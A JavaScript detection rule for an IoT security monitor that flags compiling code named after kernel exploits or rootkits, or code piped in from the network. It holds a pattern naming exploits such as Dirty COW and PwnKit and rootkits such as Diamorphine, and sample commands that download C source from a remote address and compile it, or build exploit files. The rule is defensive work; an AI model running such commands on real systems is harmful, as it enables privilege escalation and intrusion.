import { commandRule } from "../../command-rule.js";
import { find } from "../../shell/look.js";

const EXPLOIT =
  /(?:^|[/_.-])(?:exploit\w*|dirty_?(?:cow|pipe|cred|c0w)\w*|d?c0?wroot|pwn(?:kit)?|rootkit|shellcode|payload(?=\.)|overlayfs\w*|cve[-_]?\d{4}[-_]?\d{3,}|diamorphine|reptile|suterusu|adore|privesc|lpe|local_?root|looney\w*|sudoedit_?pwn)(?:[-_.]|$)/i;

/** Code is compiled on the device whose name is that of an exploit or a rootkit, or that comes from the command line. */
export const suspiciousCompilation = commandRule({
  id: "suspicious-compilation",
  alertType: "IoT_SuspiciousCompilation",
  name: "Suspicious compilation detected",
  severity: "Medium",
  about:
    "Code is compiled on the device whose name is that of an exploit or a rootkit, or that comes from the command line.",
  tactics: ["Privilege Escalation", "Defense Evasion"],
  techniques: ["T1027.004", "T1068", "T1587.004"],
  falsePositives: ["Exercises; and test files that happen to be named after a bug."],
  witness: ["gcc", "cc", "clang", "g++", "tcc", "make", "insmod", "go build"],
  sees: (reading) =>
    find(reading, /^(?:gcc|cc|clang|g\+\+|tcc|c\+\+|musl-gcc|[\w-]+-gcc)(?:-\d+)?$/, ({ argv }) =>
      argv.slice(1).some((word) => EXPLOIT.test(word) && /\.(?:c|cc|cpp|s)$/i.test(word)),
    ) ??
    reading.pipelines
      .find(
        (commands) =>
          commands.length > 1 &&
          /^(?:gcc|cc|clang|tcc)$/.test(commands.at(-1)?.name ?? "") &&
          /\s-x\s*c\b/.test(commands.at(-1)?.text ?? "") &&
          /^(?:echo|curl|wget|base64)$/.test(commands.at(-2)?.name ?? "") &&
          !/\s-(?:E|dM|S|fsyntax-only)\b|\/dev\/null/.test(commands.at(-1)?.text ?? ""),
      )
      ?.map(({ text }) => text)
      .join(" | ") ??
    find(reading, /^(?:make|go)$/, ({ argv }) =>
      argv.some(
        (word, place) =>
          (argv[place - 1] === "-C" || place === argv.length - 1) && EXPLOIT.test(word) && word.includes("/"),
      ),
    ),
  did: "compiled suspicious code",
  because: "the name of the code is that of an exploit, or it was handed over without a file",
  fires: [
    "gcc dirtycow.c -o /tmp/dc -lpthread",
    "cc -o x exploit.c",
    "sh -c curl -s http://203.0.113.9/p.c | gcc -x c -o /tmp/p -",
    "make -C /tmp/Diamorphine",
    "gcc /tmp/cve-2022-0847.c -o /tmp/e",
  ],
  silent: [
    "gcc -O2 main.c -o app",
    "clang -c /tmp/conftest.c",
    "gcc scowl.h -c",
    "sh -c echo | gcc -x c -E -dM -",
    "gcc -c src/payload_parser.c -o payload_parser.o",
    "make -C /usr/src/linux M=/root/driver modules",
    "cc -c http_payloads.c",
  ],
});
